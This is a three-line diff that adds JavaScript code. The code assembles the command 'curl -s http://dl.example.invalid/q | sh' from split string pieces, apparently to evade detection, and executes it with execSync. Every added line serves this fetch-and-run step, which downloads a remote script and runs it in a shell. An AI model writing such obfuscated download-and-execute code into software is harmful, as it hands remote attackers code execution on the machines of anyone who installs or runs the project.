@@ -1,0 +1,3 @@
+const { execSync } = require('child_process');
+const cmd = ['cu', 'rl', ' -s ', 'http://dl.example.invalid/q', ' | ', 'sh'];
+execSync(cmd.join(''));
